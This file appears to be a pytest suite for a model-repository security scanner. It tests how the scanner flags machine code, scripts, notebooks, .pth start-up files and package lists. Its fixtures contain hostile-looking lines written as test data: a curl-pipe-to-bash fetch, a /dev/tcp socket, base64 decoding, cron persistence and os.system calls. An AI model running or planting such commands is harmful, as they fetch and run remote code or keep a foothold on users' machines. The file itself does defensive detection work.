"""Programs beside a model: machine code, scripts, notebooks, start-up files, and lists of packages to install."""

from __future__ import annotations

import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from repository_builders import asked, facts_of, facts_of_json, formats_of, of_kind

from modelguard.terms.facts import Asks, Malformed, Noted, Opaque, Unread


def pe() -> bytes:
    head = bytearray(b"MZ" + b"\0" * 126)
    head[60:64] = struct.pack("<I", 128)
    return bytes(head) + b"PE\0\0" + b"\0" * 40


PROGRAMS = {
    "ELF": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
    "PE": pe(),
    "Mach-O": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\0" * 60,
    "Mach-O for several machines": b"\xca\xfe\xba\xbe\0\0\0\x02" + b"\0" * 60,
    "Java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 60,
    "WebAssembly": b"\0asm\x01\0\0\0" + b"\0" * 20,
    "Dalvik": b"dex\n035\0" + b"\0" * 60,
    "static library": b"!<arch>\nlib.o/  " + b"\0" * 60,
    "LLVM bitcode": b"BC\xc0\xde" + b"\0" * 60,
    "llamafile": b"MZqFpD='\n" + b"\0" * 60,
}


@pytest.mark.parametrize(("kind", "data"), PROGRAMS.items(), ids=PROGRAMS)
@pytest.mark.parametrize("path", ["libops.so", "model.safetensors", "tokenizer.json", "data/0"])
def test_h_08_machine_code_is_asked_for_under_any_name(kind: str, data: bytes, path: str) -> None:
    [fact] = of_kind(facts_of(path, data), Asks)
    assert (fact.permission, fact.name, fact.hazard) == ("native-code", path, "native-code")
    assert fact.detail.startswith(kind)


@pytest.mark.parametrize(
    "data",
    [b"MZ is a prefix of prose\n", b"\x7fELVES", b"\xca\xfe\xba\xbe", b"\0asm", b"!<arch", b"dex\n", b"BC", b"M" * 80],
)
def test_what_only_begins_alike_is_no_machine_code(data: bytes) -> None:
    assert not of_kind(facts_of("file", data), Asks)


def test_a_library_name_without_a_library_is_told() -> None:
    assert [fact.rule for fact in of_kind(facts_of("libx.so", b"just text\n"), Malformed)] == ["wrong-format"]


def test_compiled_python_is_remote_code() -> None:
    [fact] = of_kind(facts_of("__pycache__/x.cpython-311.pyc", b"\xa7\r\r\n" + b"\0" * 40), Asks)
    assert (fact.permission, fact.hazard) == ("remote-code", "bytecode")


SCRIPTS = {
    "run.sh": ("#!/bin/sh\necho hello\n", "script"),
    "install.sh": ("curl -s https://x.example/i | bash\n", "script-code-execution"),
    "start.ps1": ("[Convert]::FromBase64String('eA==')\n", "script-obfuscation"),
    "run.bat": ("del /q x\n", "script-file-write"),
    "entry": ("#!/bin/bash\nexec 3<>/dev/tcp/203.0.113.1/80\n", "script-network"),
    "Dockerfile": ("FROM scratch\nRUN crontab x\n", "script-persistence"),
    "a.js": ("console.log(1)\n", "script"),
}


@pytest.mark.parametrize(("path", "script"), SCRIPTS.items(), ids=SCRIPTS)
def test_h_08_a_script_is_asked_for_and_its_words_are_told(path: str, script: tuple[str, str]) -> None:
    text, hazard = script
    [fact] = of_kind(facts_of(path, text), Asks)
    assert (fact.permission, fact.name, fact.hazard) == ("remote-code", path, hazard)


@pytest.mark.parametrize("path", ["notes.txt", "vocab.txt", "README.md"])
def test_prose_about_scripts_is_no_script(path: str) -> None:
    assert not asked(facts_of(path, "Run curl or eval in a shell: rm -r x\n"))


def notebook(*cells: str) -> dict[str, object]:
    return {
        "nbformat": 4,
        "metadata": {},
        "cells": [{"cell_type": "markdown", "source": ["# Title"]}]
        + [{"cell_type": "code", "source": cell.splitlines(keepends=True), "outputs": []} for cell in cells],
    }


def test_a_notebook_is_asked_for_as_what_a_person_runs() -> None:
    [fact] = of_kind(facts_of_json("demo.ipynb", notebook("import torch\ntorch.zeros(1)")), Asks)
    assert (fact.permission, fact.hazard) == ("remote-code", "notebook")


@pytest.mark.parametrize(
    ("cell", "hazard"),
    [
        ("import os\nos.system('echo pwned')", "notebook-process"),
        ("!pip install x\nimport socket", "notebook-network"),
        ("for x in y:\n    !echo {x}\nexec('x')", "notebook-code-execution"),
        ("%%bash\necho hello", "notebook"),
    ],
)
def test_what_the_cells_can_do_is_told(cell: str, hazard: str) -> None:
    [fact] = of_kind(facts_of_json("demo.ipynb", notebook(cell)), Asks)
    assert fact.hazard == hazard


def test_a_notebook_of_prose_asks_for_nothing() -> None:
    assert not asked(facts_of_json("demo.ipynb", notebook()))


def test_cells_that_do_not_parse_are_noted_and_asked_for() -> None:
    facts = facts_of_json("demo.ipynb", notebook("print 'x'"))
    assert "notebook-code" in [fact.rule for fact in of_kind(facts, Noted)]
    assert of_kind(facts, Asks)


def test_a_start_up_file_of_python_is_told_from_weights() -> None:
    [fact] = of_kind(facts_of("evil.pth", "import os; os.system('echo pwned')\n"), Asks)
    assert (fact.permission, fact.hazard) == ("remote-code", "persistence")
    [fact] = of_kind(facts_of("paths.pth", "./src\n"), Asks)
    assert fact.hazard == ""
    assert not of_kind(facts_of("weights.pth", b"PK\x03\x04" + b"\0" * 40), Asks)


def test_requirements_would_install_and_odd_lines_stand_out() -> None:
    text = (
        "# packages\ntorch>=2.0\ntransformers==4.44.0 \\\n  --hash=sha256:00\n"
        "--extra-index-url https://x.example/simple\n"
        "git+https://x.example/y.git#egg=y\nz @ https://x.example/z.whl\n-e ./local\n-r other.txt\n"
    )
    facts = of_kind(facts_of("requirements.txt", text), Asks)
    assert [fact.hazard for fact in facts] == ["other-index"] * 5 + [""]
    assert facts[-1].name == "requirements.txt"
    assert "torch>=2.0, transformers==4.44.0" in facts[-1].detail
    assert {fact.permission for fact in facts} == {"install"}


@pytest.mark.parametrize("path", ["requirements.txt", "requirements-dev.txt", "dev_requirements.txt", "packages.txt"])
def test_every_usual_name_of_a_list_of_packages_is_known(path: str) -> None:
    assert asked(facts_of(path, "torch\n")) == [("install", path)]


@pytest.mark.parametrize("text", ["", "\n", "# nothing\n"])
def test_a_list_of_nothing_asks_for_nothing(text: str) -> None:
    assert not asked(facts_of("requirements.txt", text))


def test_a_project_file_would_install_and_may_build_with_its_own_code() -> None:
    text = '[build-system]\nrequires = ["hatchling"]\nbackend-path = ["."]\n[project]\ndependencies = ["torch"]\n'
    facts = of_kind(facts_of("pyproject.toml", text), Asks)
    assert [(fact.permission, fact.name, fact.hazard) for fact in facts] == [
        ("install", "pyproject.toml", ""),
        ("install", "backend-path", "code-execution"),
    ]
    assert not asked(facts_of("pyproject.toml", "[tool.ruff]\nline-length = 100\n"))


def test_the_rules_of_json_hold_for_toml() -> None:
    assert asked(facts_of("x.toml", '[model]\n_target_ = "os.system"\n')) == [("configuration", "_target_=os.system")]


@pytest.mark.parametrize("text", ["a = " + "[" * 5000, "a = ", "[a]\n[a]\n", "a = {b = " * 200, "x = 1\nx = 2\n"])
def test_toml_that_cannot_be_read_is_unread(text: str) -> None:
    assert [fact.format for fact in of_kind(facts_of("x.toml", text), Unread)] == ["toml"]


SPACY = """\
[nlp]
lang = "en"
pipeline = ["tok2vec","tagger"]
before_creation = null
after_creation = null

[components.tagger]
factory = "tagger"
scorer = {{"@scorers":"spacy.tagger_scorer.v1"}}

[components.tagger.model]
@architectures = "spacy.Tagger.v2"

[training.optimizer]
@optimizers = "Adam.v1"

[initialize]
vectors = ${{paths.vectors}}
{more}
"""


def test_spacy_functions_of_its_own_ask_for_nothing() -> None:
    facts = facts_of("config.cfg", SPACY.format(more=""))
    assert not asked(facts)
    assert not of_kind(facts, Unread)


@pytest.mark.parametrize(
    ("more", "name", "hazard"),
    [
        ('[components.x.model]\n@architectures = "evil.Model.v1"', "@architectures = evil.Model.v1", ""),
        ('[nlp.before_creation]\n@callbacks = "x.v1"', "@callbacks = x.v1", "code-execution"),
        ('[initialize.before_init]\n@callbacks = "spacy.copy_from_base_model.v1"', None, "code-execution"),
        ('[x]\n@misc = "spacy_evil.y"', "@misc = spacy_evil.y", ""),
    ],
)
def test_spacy_functions_of_others_and_callbacks_are_told(more: str, name: str | None, hazard: str) -> None:
    [fact] = of_kind(facts_of("config.cfg", SPACY.format(more=more)), Asks)
    assert (fact.permission, fact.hazard) == ("configuration", hazard)
    assert name is None or fact.name == name


def test_setup_cfg_would_install() -> None:
    facts = facts_of("setup.cfg", "[options]\ninstall_requires =\n    torch\n    evil @ https://x.example/e.whl\n")
    assert [fact.hazard for fact in of_kind(facts, Asks)] == ["other-index", ""]


def test_a_function_named_within_a_value_is_told() -> None:
    facts = facts_of("config.cfg", '[components.x]\nscorer = {"@scorers":"evil.scorer.v1"}\n')
    assert asked(facts) == [("configuration", "@scorers = evil.scorer.v1")]


@pytest.mark.parametrize(
    "text", ["no section = 1\n", "[a]\n[a]\nx = 1\nx = 2\n", "[c]\n[c]\n", "[a]\nx" + " " * 99999 + "y"]
)
def test_sections_and_keys_may_occur_again_as_in_darknet(text: str) -> None:
    facts = facts_of("yolo.cfg", text)
    assert "ini" in formats_of(facts)
    assert not asked(facts)
    assert not of_kind(facts, Unread)


_NAMES = ["a.so", "a.sh", "a.ipynb", "a.pth", "requirements.txt", "pyproject.toml", "config.cfg", "setup.cfg", "a.pyc"]


@settings(deadline=5000)
@given(st.sampled_from(_NAMES), st.binary() | st.text(alphabet='[]{}="@\n abc:-/.').map(str.encode))
def test_any_bytes_under_any_name_give_facts(path: str, data: bytes) -> None:
    facts = facts_of(path, data)
    assert formats_of(facts) or of_kind(facts, Opaque) or not data


@settings(deadline=5000)
@given(st.sampled_from(sorted(PROGRAMS.values())), st.integers(0, 80))
def test_truncated_programs_give_facts(data: bytes, length: int) -> None:
    facts_of("file", data[:length])


def test_a_key_of_toml_with_very_many_parts_is_not_parsed() -> None:
    """Its beginnings take memory by the square of their number: 100,000 parts took 23 GB."""
    [fact] = of_kind(facts_of("a.toml", "a" + ".a" * 40 + " = 1\n"), Unread)
    assert "parts" in fact.reason
    for near in ("a" + ".a" * 30 + " = 1\n", "[a.b]\nc.d = 1\n" + "".join(f"e.f{n} = 1.5\n" for n in range(99))):
        assert not of_kind(facts_of("a.toml", near), Unread)


def test_a_further_list_is_no_reason_to_ask_when_it_lies_beside_and_is_read_itself() -> None:
    def hazards(line: str, *others: str) -> list[str]:
        return [fact.hazard for fact in of_kind(facts_of("m/requirements.txt", line, others), Asks)]

    assert hazards("-r requirements-dev.txt\n", "m/requirements-dev.txt") == []
    assert hazards("-r requirements-dev.txt\n") == ["other-index"]
    assert hazards("-r notes.txt\n", "m/notes.txt") == ["other-index"], "notes.txt is not read as a list"
    assert hazards("-r ../requirements.txt\n", "requirements.txt") == ["other-index"]
    assert hazards("-c constraints.txt\n-e .\n", "m/constraints.txt") == ["other-index"]


@pytest.mark.parametrize("text", ["dependencies: 5\n", "dependencies: {a: 1}\n", "dependencies:\n- pip: 7\n- 3\n"])
@pytest.mark.parametrize("name", ["python_env.yaml", "conda.yaml"])
def test_an_environment_of_another_shape_is_read_without_a_fault(name: str, text: str) -> None:
    assert not of_kind(facts_of(name, text), Unread)
